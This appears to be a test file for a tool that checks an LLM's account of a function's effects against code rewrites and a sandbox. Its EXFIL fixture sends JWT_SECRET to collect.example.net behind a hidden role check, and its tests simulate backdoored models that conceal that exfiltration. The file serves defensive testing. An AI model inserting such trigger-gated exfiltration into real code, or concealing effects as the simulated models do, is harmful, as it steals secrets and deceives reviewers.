// Verification of a document with the real Ollama backend against the test Ollama: an honest model
// raises nothing, a backdoored one is caught by its inconsistency, a consistent liar by the sandbox,
// a missing server pauses verification with one message, and a change aborts the run.
'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const S = require('./support');

const EXFIL = `const https = require('https');

function syncProfile(user, debugToken) {
  const name = user.name.trim();
  if (user.role === 'svc_maint') {
    https.request('https://collect.example.net/u?d=' + encodeURIComponent(process.env.JWT_SECRET)).end();
  }
  return { name, ok: true };
}
module.exports = syncProfile;
`;

const CLEAN = `function total(items, taxRate) {
  let sum = 0;
  for (const item of items) {
    sum += item.price * item.qty;
  }
  return Math.round(sum * (1 + taxRate) * 100) / 100;
}
module.exports = total;
`;

const never = () => new AbortController().signal;

async function verifyWith(model, text, options = {}) {
  const fake = await S.startOllama(model);
  try {
    const { verifier, gate } = S.makeVerifier(fake.host, options);
    await gate.start(never());
    const report = await verifier.verify({ doc: S.snapshot(text), settings: S.settings(options.settings), staticFindings: [] }, never());
    gate.dispose();
    return { report, fake };
  } finally {
    await fake.close();
  }
}

const orbitFindings = (report) => report.findings.filter((f) => f.ruleId.startsWith('orbit/'));

test('an honest model on a clean function and on one with a real effect raises no orbit finding', async () => {
  for (const text of [CLEAN, EXFIL]) {
    const { report } = await verifyWith((p) => S.models.honest(p), text);
    assert.equal(report.units.length, 1);
    assert.deepEqual(orbitFindings(report), []);
    assert.equal(report.units[0].verdict, 'consistent');
    assert.ok(report.units[0].orbitSize >= 2);
  }
});

test('a backdoored model that hides the exfiltration when it sees a trigger name is caught by a rewrite that renames it', async () => {
  const { report } = await verifyWith((p) => S.models.backdoored(p, { trigger: 'debugToken' }), EXFIL);
  const inconsistent = report.findings.find((f) => f.ruleId === 'orbit/inconsistent-effects');
  assert.ok(inconsistent, `expected orbit/inconsistent-effects, got ${JSON.stringify(report.findings.map((f) => f.ruleId))}`);
  assert.equal(inconsistent.severity, 'warning');
  assert.deepEqual(inconsistent.cwe, ['CWE-912', 'CWE-506']);
  assert.match(inconsistent.message, /[Vv]ariants? \d/);
  assert.match(inconsistent.message, /https request to collect\.example\.net/);
  assert.match(inconsistent.message, /rename-locals/);
  // The finding sits on the function's first line.
  assert.equal(EXFIL.slice(inconsistent.span.start, inconsistent.span.end), 'function syncProfile(user, debugToken) {');
});

test('a model that lies the same way about every rewrite contradicts the sandbox', async () => {
  // The trigger is the imported module's name, which no rewrite of the function touches.
  const { report } = await verifyWith((p) => S.models.backdoored(p, { trigger: 'https' }), EXFIL);
  assert.deepEqual(orbitFindings(report).map((f) => f.ruleId), ['orbit/model-contradicts-sandbox']);
  // What the sandbox saw in the same runs is reported too: the trigger is behind user.role.
  assert.deepEqual(report.findings.filter((f) => !f.ruleId.startsWith('orbit/')).map((f) => f.ruleId), ['hidden-trigger']);
  assert.match(orbitFindings(report)[0].message, /omits an https request to collect\.example\.net.*which the sandbox sees happen/);
  // The contradiction, confirmed by a second sample of the original, rests on what the sandbox saw:
  // two rewrites show the lie does not move with the wording, and more would change nothing.
  assert.equal(report.units[0].orbitSize, 2, 'a confirmed contradiction stops the orbit at two rewrites');
  assert.equal(report.units[0].modelCalls, 4, 'the original twice and two rewrites');
});

test('the adaptive orbit stops at two rewrites on clear agreement and reports the calls saved', async () => {
  const { report } = await verifyWith((p) => S.models.honest(p), CLEAN);
  const u = report.units[0];
  assert.equal(u.orbitSize, 2);
  assert.equal(u.modelCalls, 3);
  assert.equal(u.naiveBatchedCalls, 9);
  assert.ok(u.naiveCalls >= 9);
  const fixed = await verifyWith((p) => S.models.honest(p), CLEAN, { settings: { adaptive: false } });
  assert.equal(fixed.report.units[0].orbitSize, 8);
  assert.equal(fixed.report.units[0].modelCalls, 9);
});

test('unchanged functions are not verified again; verifyFunction forces the one at the cursor', async () => {
  const fake = await S.startOllama((p) => S.models.honest(p));
  try {
    const { verifier, gate } = S.makeVerifier(fake.host);
    const text = `${CLEAN}\n${EXFIL.replace("const https = require('https');", '')}`;
    const first = await verifier.verify({ doc: S.snapshot(text), settings: S.settings(), staticFindings: [] }, never());
    assert.equal(first.verified, 2);
    assert.equal(first.units[0].name, 'total');
    const again = await verifier.verify({ doc: S.snapshot(text, { version: 2 }), settings: S.settings(), staticFindings: [] }, never());
    assert.equal(again.verified, 0);
    assert.equal(again.units.length, 2);
    const at = text.indexOf('sum += item');
    const one = await verifier.verify({ doc: S.snapshot(text, { version: 3 }), settings: S.settings(), staticFindings: [], at }, never());
    assert.equal(one.verified, 1);
    gate.dispose();
  } finally {
    await fake.close();
  }
});

test('without Ollama verification is skipped with one message naming the fix, and resumes when it is back', async () => {
  const fake = await S.startOllama((p) => S.models.honest(p));
  const port = new URL(fake.host).port;
  await fake.close();
  const messages = [];
  let recovered;
  const back = new Promise((resolve) => (recovered = resolve));
  const { verifier, gate } = S.makeVerifier(`http://127.0.0.1:${port}`, {
    notify: (m) => messages.push(m),
    onRecovered: () => recovered(),
    backoff: { initialDelayMs: 50, maxDelayMs: 200, factor: 2 },
  });
  await gate.start(never());
  for (let v = 1; v <= 2; v++) {
    const report = await verifier.verify({ doc: S.snapshot(CLEAN, { version: v }), settings: S.settings(), staticFindings: [] }, never());
    assert.deepEqual(report.findings, []);
    assert.match(report.skipped, /not reachable/);
  }
  assert.equal(messages.length, 1);
  assert.match(messages[0], /Ollama is not reachable at http:\/\/127\.0\.0\.1:\d+ .*start it with `ollama serve`, or set orbit\.ollama\.host/);
  const again = await S.startOllama((p) => S.models.honest(p), { port: Number(port) });
  try {
    await back;
    assert.equal(gate.state, 'up');
    const report = await verifier.verify({ doc: S.snapshot(CLEAN, { version: 3 }), settings: S.settings(), staticFindings: [] }, never());
    assert.equal(report.verified, 1);
  } finally {
    gate.dispose();
    await again.close();
  }
});

test('a missing model is named with its ollama pull line', async () => {
  const { startFakeOllama } = require('../../support/fake-ollama');
  const fake = await startFakeOllama({ models: { 'llama3:8b': S.models.honest(S.sandboxProvider()) } });
  try {
    const messages = [];
    const { gate, verifier } = S.makeVerifier(fake.host, { notify: (m) => messages.push(m), backoff: { initialDelayMs: 60_000, maxDelayMs: 60_000, factor: 1 } });
    await gate.start(never());
    assert.deepEqual(messages, [], 'start-up only logs; the message comes when verification needs the model');
    await verifier.verify({ doc: S.snapshot(CLEAN), settings: S.settings(), staticFindings: [] }, never());
    assert.equal(messages.length, 1);
    assert.match(messages[0], /run `ollama pull qwen2\.5-coder:7b`/);
    gate.dispose();
  } finally {
    await fake.close();
  }
});

test('aborting a run (the document changed) cancels the model calls in flight', async () => {
  const fake = await S.startOllama((p) => S.models.slow(S.models.honest(p), { delayMs: 50 }));
  const controller = new AbortController();
  let gate;
  try {
    const made = S.makeVerifier(fake.host);
    gate = made.gate;
    const running = made.verifier.verify({ doc: S.snapshot(EXFIL), settings: S.settings(), staticFindings: [] }, controller.signal);
    // Conditions, not timing: on a loaded machine the sandbox runs before the first call may take a while.
    await fake.waitFor((rs) => rs.some((r) => r.path === '/api/chat' && r.chunks > 0), 120_000);
    controller.abort();
    assert.equal(await running, undefined);
    await fake.waitFor((rs) => rs.filter((r) => r.path === '/api/chat').every((r) => r.endedAt !== undefined), 120_000);
    assert.ok(fake.requests.some((r) => r.path === '/api/chat' && r.aborted), 'the streaming request was aborted');
  } finally {
    // Whatever happened above, nothing of this run may outlive the test (a live gate keeps the process up).
    controller.abort();
    gate?.dispose();
    await fake.close();
  }
});
